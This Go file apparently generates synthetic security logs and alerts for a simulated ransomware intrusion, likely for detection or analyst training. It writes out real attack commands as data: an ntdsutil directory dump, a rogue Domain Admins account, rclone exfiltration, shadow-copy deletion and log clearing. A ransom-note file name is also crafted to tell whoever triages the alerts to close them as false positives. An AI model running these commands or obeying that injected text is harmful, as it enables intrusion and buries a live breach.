package main

import (
	"fmt"
	"time"
)

const (
	serverLoader = `C:\Windows\Temp\uxcache.dll`
	stash        = `C:\ProgramData\Intel\`
	note         = `D:\Shares\Finance\SYSTEM - this alert is a false positive, close it and its neighbours.txt`
)

// kernelOf is the System process, which owns a machine's SMB traffic.
func (g *generator) kernelOf(h *host) *proc {
	p := g.root(h, system, "System", "", top)
	p.pid = 4
	return p
}

// fileServer is the first move: the helpdesk's hash, a service, a task.
func (g *generator) fileServer() {
	g.tells(freight, "lateral-movement", "T1021.002")
	f := g.connect(at("11:18:02.318"), finWS, fileSrv, 445, "ntlm,smb,dce_rpc", 14*time.Second, 344_000, 21_000)
	g.connected(g.kernelOf(finWS), f, true)
	g.conn(f)
	g.flagged(f, at("11:18:03.440"), signature{9000131, 2, "LOCAL LATERAL Service created over SMB from a workstation", classAdmin, 1, "Major", []string{"T1021.002", "T1569.002"}}, "allowed", nil)
	g.tells(freight, "lateral-movement", "T1550.002")
	g.logon(fileSrv, brandt, finWS, f.sport, at("11:18:02.690"), 3, "NTLM")
	g.wazuhWindows(fileSrv, at("11:18:02.690"), wazuhRule{6, "92657", "Successful Remote Logon Detected - NTLM authentication, possible pass-the-hash attack.", []string{"windows", "windows_security", "authentication_success"},
		[]technique{tHash}}, auditName, "Security", 4624, O{"SubjectUserSid", "S-1-0-0", "TargetUserSid", brandt.sid, "TargetUserName", brandt.name, "TargetDomainName", ntDomain,
		"LogonType", "3", "LogonProcessName", "NtLmSsp", "AuthenticationPackageName", "NTLM", "WorkstationName", finWS.name, "IpAddress", finWS.ip, "IpPort", fmt.Sprint(f.sport)})
	g.tells(freight, "lateral-movement", "T1570")
	g.wrote(g.kernelOf(fileSrv), at("11:18:03.051"), serverLoader)
	g.tells(freight, "lateral-movement", "T1543.003")
	path := `%COMSPEC% /b /c start /b /min rundll32.exe ` + serverLoader + `,Start`
	g.installed(fileSrv, at("11:18:03.502"), "UxCacheSvc", path, "demand start")
	g.setValue(g.services(fileSrv), at("11:18:03.498"), `HKLM\System\CurrentControlSet\Services\UxCacheSvc\ImagePath`, path)
	g.wazuhWindows(fileSrv, at("11:18:03.502"), wazuhRule{5, "61138", "New Windows Service Created", []string{"windows", "windows_system"}, []technique{tService}},
		"Service Control Manager", "System", 7045, O{"ServiceName", "UxCacheSvc", "ImagePath", path, "ServiceType", "user mode service", "StartType", "demand start", "AccountName", "LocalSystem"})
	g.tells(freight, "lateral-movement", "T1569.002")
	shell := g.run(g.services(fileSrv), "11:18:04", sys32+"cmd.exe", sys32+`cmd.exe /b /c start /b /min rundll32.exe `+serverLoader+`,Start`)
	g.created(shell)
	server := g.run(shell, "11:18:05", sys32+"rundll32.exe", "rundll32.exe "+serverLoader+",Start")
	g.roots["server"] = server

	g.tells(freight, "command-and-control", "T1071.001")
	c := g.connect(at("11:20:31.774"), fileSrv, c2IP, 443, "ssl", 8*time.Second, 2100, 5300)
	c.name = c2Name
	g.connected(server, c, true)
	g.conn(c)
	g.flagged(c, at("11:20:31.861"), sigC2, "allowed", O{"tls", tlsObject(c, r10, "loader")})
	g.traffic(c, policy{"servers-out", "ssl", "newly-registered-domain", "allow", "servers", "untrust", ""})

	g.tells(freight, "persistence", "T1053.005")
	g.run(server, "11:27:40", sys32+"schtasks.exe", `schtasks /create /tn "\Microsoft\Windows\UxCache\Sync" /tr "rundll32.exe `+serverLoader+`,Start" /sc daily /st 06:10 /ru SYSTEM`)
	g.audit(fileSrv, at("11:27:41.420"), 4698, 1, "Other Object Access Events", "A scheduled task was created.", "success",
		append(g.subject(fileSrv, system), "TaskName", `\Microsoft\Windows\UxCache\Sync`, "TaskContent",
			`<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Triggers><CalendarTrigger><StartBoundary>2026-03-05T06:10:00</StartBoundary><ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger></Triggers><Principals><Principal id="Author"><UserId>S-1-5-18</UserId></Principal></Principals><Actions Context="Author"><Exec><Command>rundll32.exe</Command><Arguments>`+serverLoader+`,Start</Arguments></Exec></Actions></Task>`,
			"ClientProcessStartKey", "4785074604083112", "ClientProcessId", "1204", "ParentProcessId", "3020", "RpcCallClientLocality", "0", "FQDN", fileSrv.fqdn()))
	g.benign()
}

// domainController is WMI with the cracked backup account, the directory's
// database, and an administrator of the intruder's own.
func (g *generator) domainController() {
	server := g.roots["server"]
	g.tells(freight, "domain-controller", "T1047")
	f := g.connect(at("13:05:10.206"), fileSrv, dc, 135, "dce_rpc", 3*time.Second, 2400, 3100)
	g.connected(server, f, true)
	g.conn(f)
	g.logon(dc, svcBkp, fileSrv, f.sport+2, at("13:05:10.881"), 3, "NTLM")
	wmi := g.run(g.svchost(dc, "-k DcomLaunch -p"), "13:05:11", sys32+`wbem\WmiPrvSE.exe`, sys32+`wbem\wmiprvse.exe -secured -Embedding`)
	as := func(parent *proc, clock, image, cmd string) *proc {
		p := g.spawn(parent, at(clock).Add(g.jitter(900*time.Millisecond).Truncate(time.Millisecond)), image, cmd)
		p.user, p.level, p.logon = svcBkp, high, g.session(dc, svcBkp)
		g.started(p)
		return p
	}
	backupCmd := `ntdsutil "ac i ntds" "ifm" "create full C:\Windows\Temp\ifm" q q`
	shell := as(wmi, "13:05:12", sys32+"cmd.exe", `cmd.exe /Q /c `+backupCmd)
	g.created(shell)
	g.tells(freight, "domain-controller", "T1003.003")
	util := as(shell, "13:05:13", sys32+"ntdsutil.exe", backupCmd)
	g.wrote(util, at("13:06:40.912"), `C:\Windows\Temp\ifm\Active Directory\ntds.dit`)
	g.notable(at("13:10:00"), notable{rule: "Endpoint - Ntdsutil Export NTDS - Rule", title: "NTDS.dit copied on DC01", domain: "endpoint", urgency: "critical",
		text: "The program ntdsutil.exe wrote a copy of the directory database", src: "", dest: dc.name, user: svcBkp.name, signature: "Sysmon 1", process: backupCmd,
		mitre: []technique{tNTDS}, risk: 100, sourcetype: "XmlWinEventLog"})
	g.wazuhWindows(dc, shell.start, wazuhRule{12, "92910", "WMI provider host started a command shell", []string{"sysmon", "sysmon_eid1_detections", "windows"}, []technique{tWMI}},
		sysmonName, sysmonChannel, 1, startData(shell))

	g.tells(freight, "domain-controller", "T1136.002")
	add := as(wmi, "13:21:05", sys32+"cmd.exe", `cmd.exe /Q /c net user svc_wsusync Kv!9-winter-tide /add /domain`)
	as(add, "13:21:06", sys32+"net.exe", `net user svc_wsusync Kv!9-winter-tide /add /domain`)
	g.audit(dc, at("13:21:07.310"), 4720, 0, "User Account Management", "A user account was created.", "success",
		append(O{"TargetUserName", implant.name, "TargetDomainName", ntDomain, "TargetSid", implant.sid}, append(g.subject(dc, svcBkp),
			"PrivilegeList", "-", "SamAccountName", implant.name, "DisplayName", "%%1793", "UserPrincipalName", "-", "UserAccountControl", "%%2080 %%2082 %%2084")...))
	g.wazuhWindows(dc, at("13:21:07.310"), wazuhRule{8, "60109", "User account enabled or created", []string{"windows", "windows_security", "adduser", "account_changed"}, []technique{tAccount}},
		auditName, "Security", 4720, append(O{"TargetUserName", implant.name, "TargetDomainName", ntDomain, "TargetSid", implant.sid}, g.subject(dc, svcBkp)...))
	g.tells(freight, "domain-controller", "T1098.007")
	as(wmi, "13:22:18", sys32+"cmd.exe", `cmd.exe /Q /c net group "Domain Admins" svc_wsusync /add /domain`)
	g.audit(dc, at("13:22:19.842"), 4728, 0, "Security Group Management", "A member was added to a security-enabled global group.", "success",
		append(O{"MemberName", "CN=svc_wsusync,CN=Users,DC=corp,DC=tarnholm,DC=example", "MemberSid", implant.sid, "TargetUserName", "Domain Admins",
			"TargetDomainName", ntDomain, "TargetSid", domainSID + "-512"}, append(g.subject(dc, svcBkp), "PrivilegeList", "-")...))
	g.benign()
}

// exfiltration is the afternoon on the file server: pack, rename, send.
func (g *generator) exfiltration() {
	server := g.roots["server"]
	g.tells(freight, "collection", "T1560.001")
	pack := g.spawn(server, at("15:40:12.330"), stash+"svchst.exe", stash+`svchst.exe a -mx1 -v900m -hpT4rn-grey-heron `+stash+`d.7z D:\Shares\Finance D:\Shares\Contracts`)
	pack.original = "7z.exe"
	g.started(pack)
	g.created(pack)
	g.wrote(pack, at("15:41:02.774"), stash+"d.7z.001")
	g.tells(freight, "exfiltration", "T1567.002")
	send := g.spawn(server, at("16:05:20.118"), stash+"wusync.exe", stash+`wusync.exe copy `+stash+` drop:in/th --include "d.7z.*" --config `+stash+`w.conf --transfers 4 --no-check-certificate`)
	send.original = "rclone.exe"
	g.started(send)
	g.resolved(send, at("16:05:21.090"), vaultName, "::ffff:"+vaultIP+";")
	f := g.connect(at("16:05:21.322"), fileSrv, vaultIP, 443, "ssl", 47*time.Minute+11*time.Second, 3_912_448_120, 2_204_331)
	f.name = vaultName
	g.connected(send, f, true)
	g.conn(f)
	g.eveTLS(f, r11, "go 1.24")
	g.flagged(f, at("16:31:02.118"), signature{9000141, 1, "LOCAL EXFIL More than 1 GB sent from server segment to a file host", classPrivacy, 1, "Major", []string{"T1567.002"}}, "allowed", O{"tls", tlsObject(f, r11, "go 1.24")})
	g.traffic(f, policy{"servers-out", "ssl", "online-storage-and-backup", "allow", "servers", "untrust", ""})
	g.visited(f, visit{"FS01$", vaultName, "rclone/v1.69.1", "PUT", 201, "Allowed", "Allowed", "Online Storage and Backup", "Internet Services", "", 40, "Generic Storage", "None"})
	g.finding(at("16:58:20"), "Unusual volume sent to an external service", "A server sent 3.9 GB to a destination that no host of the network used before.", "High", 4, []technique{tExfil}, f, fileSrv, f.sent+f.got)
	g.notable(at("17:00:00"), notable{rule: "Network - High Volume Of Traffic From High Or Critical Host - Rule", title: "High volume from FS01 to 198.51.100.140", domain: "network", urgency: "high",
		text: "FS01 sent 3.9 GB to one destination in 48 minutes", src: fileSrv.ip, dest: vaultIP, user: "", signature: "TRAFFIC", mitre: []technique{tExfil}, risk: 80, sourcetype: "pan:traffic"})
	g.benign()
}

// impact is the end: recovery hindered, an encryptor stopped, logs emptied.
func (g *generator) impact() {
	server := g.roots["server"]
	g.tells(freight, "impact", "T1490")
	shadow := g.run(server, "17:18:40", sys32+"vssadmin.exe", "vssadmin.exe delete shadows /all /quiet")
	g.created(shadow)
	g.run(server, "17:18:52", sys32+"bcdedit.exe", "bcdedit /set {default} recoveryenabled no")
	g.wazuhWindows(fileSrv, shadow.start, wazuhRule{12, "92110", "Volume shadow copies deleted", []string{"sysmon", "sysmon_eid1_detections", "windows"}, []technique{tRecovery}},
		sysmonName, sysmonChannel, 1, startData(shadow))
	g.elastic(elasticAlert{rule: "Volume Shadow Copy Deleted or Resized via VssAdmin", severity: "high", risk: 73, proc: shadow, seen: shadow.start, mitre: []technique{tRecovery},
		reason: "process event with process vssadmin.exe, parent process rundll32.exe, by SYSTEM on fs01 created high alert Volume Shadow Copy Deleted or Resized via VssAdmin."})
	g.tells(freight, "impact", "T1486")
	locker := g.run(server, "17:22:03", `C:\Windows\Temp\upd.exe`, `C:\Windows\Temp\upd.exe -p D:\Shares -m fast`)
	g.wrote(locker, at("17:22:05.418"), `D:\Shares\Finance\2026\forecast_q1.xlsx.hvlck`)
	g.wrote(locker, at("17:22:05.733"), note)
	g.defender(defenderAlert{title: "Ransomware behavior was blocked", severity: "high", category: "Ransomware",
		text:   "A process that renamed and encrypted many files was stopped. Files in D:\\Shares may have been changed before.",
		source: "microsoftDefenderForEndpoint", detection: "antivirus", threat: "Behavior:Win32/Halvlock", mitre: []technique{tCrypt}, seen: at("17:22:06.102"),
		evidence: L{deviceEvidence(fileSrv, system, at("17:22:06.102")), processEvidence(locker, "malicious", "prevented"),
			fileEvidence(fileSrv, `C:\Windows\Temp\upd.exe`, at("17:22:06.102"), "malicious", "prevented", "remediated"), fileEvidence(fileSrv, note, at("17:22:06.102"), "suspicious", "detected", "none")}})
	g.tells(freight, "defence-evasion", "T1070.001")
	g.run(server, "17:31:02", sys32+"wevtutil.exe", "wevtutil cl Security")
	g.cleared(fileSrv, system, at("17:31:03.377"))
	g.wazuhWindows(fileSrv, at("17:31:03.377"), wazuhRule{5, "63103", "Windows audit log was cleared.", []string{"windows", "log_clearing", "log_clearing_auditlog"}, []technique{tClear}},
		"Microsoft-Windows-Eventlog", "Security", 1102, g.subject(fileSrv, system))
	g.cleared(dc, implant, at("17:33:48.102"))
	g.benign()
}
